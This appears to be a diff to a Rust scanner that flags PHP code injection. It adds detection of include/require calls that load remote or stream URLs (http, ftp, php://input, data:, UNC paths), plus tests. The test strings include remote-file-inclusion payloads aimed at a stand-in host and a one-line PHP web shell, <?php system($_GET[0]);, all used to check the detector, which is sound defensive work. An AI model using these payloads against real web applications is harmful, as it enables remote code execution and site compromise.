@@ -152,6 +152,9 @@ fn function(value: &[u8], start: usize, end: usize, kind: u8) -> Option<Strength
         return match arguments {
             Arguments::None => Some(Strength::Decisive),
             Arguments::Code if first == b'$' => Some(Strength::Decisive),
+            Arguments::Code if start == skip_space(value, 0) && is_remote(value, end) => {
+                Some(Strength::Decisive)
+            }
             Arguments::Code if quoted => Some(Strength::Suspicious),
             _ => None,
         };
@@ -171,6 +174,28 @@ fn function(value: &[u8], start: usize, end: usize, kind: u8) -> Option<Strength
         (Gap::None, Arguments::None) => Some(Strength::Suspicious),
         _ => None,
     }
+}
+
+/// `('http://`, ` "php://`: what is included comes from elsewhere.
+fn is_remote(value: &[u8], end: usize) -> bool {
+    let open = skip_space(value, end);
+    let inside = skip_space(
+        value,
+        open.saturating_add(usize::from(byte(value, open) == b'(')),
+    );
+    let name = inside.saturating_add(1);
+    matches!(byte(value, inside), b'\'' | b'"')
+        && [
+            &b"http://"[..],
+            b"https://",
+            b"ftp://",
+            b"php://",
+            b"data:",
+            b"//",
+            b"\\\\",
+        ]
+        .iter()
+        .any(|scheme| has_at(value, name, scheme))
 }
 
 /// `<?php`, `<?=`, `<? echo`, and `<?` at the end of a value without blanks.
@@ -679,5 +704,25 @@ mod tests {
         let decoys = "we use exec(a) here. ".repeat(300);
         assert!(!is_decisive(&decoys), "{decoys}");
         assert!(is_decisive(&format!("{decoys}<?php system($_GET[0]);")));
+    }
+
+    #[test]
+    fn what_is_included_comes_from_elsewhere() {
+        let caught =
+            |value: &str| hits_of(value.as_bytes()).contains(&(Class::Php, Strength::Decisive));
+        for value in [
+            "include('http://x.example/x.txt')",
+            "include \"php://input\";",
+            "require_once('//x.example/a.php')",
+        ] {
+            assert!(caught(value), "{value}");
+        }
+        for value in [
+            "include 'the receipt' please",
+            "we include('all') taxes",
+            "please include http://x.example/",
+        ] {
+            assert!(!caught(value), "{value}");
+        }
     }
 }
